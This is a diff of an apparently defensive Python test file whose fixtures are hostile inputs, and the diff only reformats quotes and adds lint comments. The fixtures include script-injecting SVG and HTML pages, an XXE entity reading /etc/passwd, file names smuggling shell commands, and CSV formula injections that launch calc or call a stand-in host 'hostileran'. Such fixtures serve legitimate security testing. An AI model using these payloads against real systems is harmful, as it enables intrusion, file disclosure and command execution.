@@ -31,12 +31,12 @@ PAGES = {
     "svg onload": b'<svg xmlns="http://www.w3.org/2000/svg" onload="%s"/>' % SCRIPT,
     "svg declared": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text>'
     b"<script>%s</script></svg>" % SCRIPT,
-    "svg page inside": b"<svg><foreignObject><body onload=\"%s\"/></foreignObject></svg>" % SCRIPT,
+    "svg page inside": b'<svg><foreignObject><body onload="%s"/></foreignObject></svg>' % SCRIPT,
     "svg far down": b" " * 5000 + b"<svg><script>%s</script></svg>" % SCRIPT,
     "html": b"<!doctype html><html><script>%s</script></html>" % SCRIPT,
-    "html loud": b"<HTML><BODY ONLOAD=\"%s\">" % SCRIPT,
-    "html late": b"\xef\xbb\xbf\r\n\t <html><img src=x onerror=\"%s\">" % SCRIPT,
-    "html wide": "<html><script>{}</script>".format(SCRIPT.decode()).encode("utf-16"),
+    "html loud": b'<HTML><BODY ONLOAD="%s">' % SCRIPT,
+    "html late": b'\xef\xbb\xbf\r\n\t <html><img src=x onerror="%s">' % SCRIPT,
+    "html wide": f"<html><script>{SCRIPT.decode()}</script>".encode("utf-16"),
     "html in a comment": b"<!-- a --><script>%s</script>" % SCRIPT,
     "html without a frame": b"<script>%s</script>" % SCRIPT,
     "html behind words": b"Dear reader, <script>%s</script>" % SCRIPT,
@@ -78,8 +78,8 @@ NAMES = (
     "$(touch hostileran).txt", "`id`.txt", "-rf.txt", "C:\\a.txt", "e\u0301" * 300 + ".txt", "a.txt::$DATA",
 )  # fmt: skip
 TABLES = (
-    b"a,b\n=cmd|' /C calc'!A0,1\n", b'name\n"=HYPERLINK(""http://hostileran/"",""x"")"\n', b"x;@SUM(1)*cmd|' /C calc'!A0\n",
-    b"+WEBSERVICE(\"http://hostileran/\")\n", b"a\t-2+3+cmd|' /C calc'!D2\n", b"=" * 2_000_000, b"=|" * 500_000, b'"' * 1_000_000,
+    b"a,b\n=cmd|' /C calc'!A0,1\n", b'name\n"=HYPERLINK(""http://hostileran/"",""x"")"\n', b"x;@SUM(1)*cmd|' /C calc'!A0\n",  # noqa: E501
+    b"+WEBSERVICE(\"http://hostileran/\")\n", b"a\t-2+3+cmd|' /C calc'!D2\n", b"=" * 2_000_000, b"=|" * 500_000, b'"' * 1_000_000,  # noqa: E501
 )  # fmt: skip
 
 
